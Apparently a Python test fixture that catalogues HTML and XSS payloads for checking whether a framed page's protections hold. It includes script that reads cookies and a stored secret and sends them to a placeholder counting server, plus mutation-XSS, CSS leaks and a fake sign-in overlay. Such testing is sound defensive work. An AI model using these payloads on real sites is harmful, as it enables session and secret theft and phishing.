"""HTML that means harm, as a tool or whatever a model has read may put it into the page's frame.

``{at}`` is an address whose server counts what arrives; ``{js}`` is script that tells all it can.
"""

from __future__ import annotations

_JS = (
    "try{parent.document.title='touched'}catch(e){};try{top.document.body.dataset.touched=1}catch(e){};"
    "try{parent.postMessage('touched','*')}catch(e){};var c='';"
    "try{c=document.cookie+parent.document.cookie+parent.localStorage.secret}catch(e){};"
    "fetch('{at}?'+encodeURIComponent(c));new Image().src='{at}';"
)

BY_ITSELF = {
    "script": "<script>{js}</script>",
    "script-src": '<script src="{at}"></script>',
    "onerror": '<img src="data:," onerror="{js}">',
    "svg-onload": '<svg onload="{js}"></svg>',
    "body-onload": '<body onload="{js}"><p>x',
    "toggle": '<details open ontoggle="{js}"><summary>x</summary></details>',
    "autofocus": '<input autofocus onfocus="{js}">',
    "img": '<img src="{at}">',
    "srcset": '<img srcset="{at} 1x, {at}2 2x">',
    "picture": '<picture><source srcset="{at}"><img src="data:,"></picture>',
    "input-image": '<input type="image" src="{at}">',
    "poster": '<video poster="{at}"></video>',
    "video": '<video src="{at}" autoplay muted preload="auto"></video>',
    "background": '<table background="{at}"><tr><td>x</table>',
    "stylesheet": '<link rel="stylesheet" href="{at}">',
    "import": "<style>@import url('{at}');</style>",
    "import-head": "<head><style>@import '{at}';</style></head><p>x",
    "font": "<style>@font-face{font-family:x;src:url('{at}')}p{font-family:x}</style><p>x",
    "css-image": "<p style=\"background-image:url('{at}')\">x",
    "css-leak": "<style>input[value^=s]{background:url('{at}')}</style><input value=secret>",
    "css-content": "<style>p::before{content:url('{at}')}</style><p>x",
    "css-list": "<style>li{list-style-image:url('{at}')}</style><ul><li>x</ul>",
    "css-image-set": "<p style=\"background:image-set(url('{at}') 1x)\">x",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={at}">',
    "base": '<base href="{at}/"><img src="x.png">',
    "iframe": '<iframe src="{at}"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<img src={at}>"></iframe>',
    "object": '<object data="{at}" type="text/html"></object>',
    "embed": '<embed src="{at}" type="text/html">',
    "prefetch": '<link rel="prefetch" href="{at}">',
    "preload": '<link rel="preload" as="image" href="{at}">',
    "modulepreload": '<link rel="modulepreload" href="{at}">',
    "svg-image": '<svg><image href="{at}" width="9" height="9"/></svg>',
    "svg-script": "<svg><script>{js}</script></svg>",
    "shadow": '<div><template shadowrootmode="open"><img src="{at}"></template></div>',
    "loosen": "<meta http-equiv='Content-Security-Policy' content='default-src *'><img src='{at}'>",
    "close": "</body></html><body><img src='{at}'><script>{js}</script>",
    "mutation": '<svg><style><img src="data:," onerror="{js}"></style></svg><img src="{at}">',
    "mutation-title": '<svg></p><title><a id="</title><img src=data:, onerror={js}>"></title></svg>'
    '<img src="{at}">',
    "noscript": "<noscript><p title=\"</noscript><img src='{at}'>\"></noscript>",
}
"""What needs nobody: in a frame without protection each of these reaches the server."""

QUIET = {
    "preconnect": '<link rel="preconnect" href="{at}">',
    "dns-prefetch": '<link rel="dns-prefetch" href="{at}">',
    "icon": '<link rel="icon" href="{at}">',
    "manifest": '<link rel="manifest" href="{at}">',
    "frameset": '<frameset><frame src="{at}"></frameset>',
    "mathml": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src={at}&gt;">',
    "svg-use": '<svg><use href="{at}#x"/></svg>',
    "svg-animate": '<svg><a><animate attributeName="href" values="{at}"/>'
    '<text y="20">x</text></a></svg>',
    "speculation": '<script type="speculationrules">'
    '{{"prefetch":[{{"source":"list","urls":["{at}"]}}]}}</script>',
    "cover": '<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red">x</div>',
    "dialog": "<dialog open style='position:fixed;width:200vw;height:200vh'>Sign in</dialog>",
}
"""What browsers may or may not follow up by themselves."""

BY_A_CLICK = {
    "link": '<a href="{at}">go</a>',
    "link-top": '<a href="{at}" target="_top">go</a>',
    "link-parent": '<a href="{at}" target="_parent">go</a>',
    "link-new": '<a href="{at}" target="_blank">go</a>',
    "link-js": '<a href="javascript:{js}">go</a>',
    "link-data": "<a href=\"data:text/html,<img src='{at}'>\">go</a>",
    "ping": '<a href="#x" ping="{at}">go</a>',
    "form": '<form action="{at}"><button>go</button></form>',
    "form-post": '<form action="{at}" method="post" target="_top"><input type="submit"></form>',
    "formaction": '<form><button formaction="{at}">go</button></form>',
    "svg-link": '<svg height="40"><a href="{at}"><text y="20">go</text></a></svg>',
    "svg-xlink": '<svg height="40"><a xlink:href="{at}"><text y="20">go</text></a></svg>',
    "area": '<map name="m"><area shape="default" href="{at}"></map>'
    '<img usemap="#m" width="40" height="40" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    "onclick": '<button onclick="{js}">go</button>',
}
"""What waits for a person."""

EVERYTHING = {**BY_ITSELF, **QUIET, **BY_A_CLICK}


def html(name: str, origin: str) -> str:
    """The HTML of this name, aimed at a server of this origin."""
    at = f"{origin}/{name}"
    js = _JS.replace("{at}", at)
    return (
        EVERYTHING[name]
        .replace("{{", "{")
        .replace("}}", "}")
        .replace("{js}", js)
        .replace("{at}", at)
    )
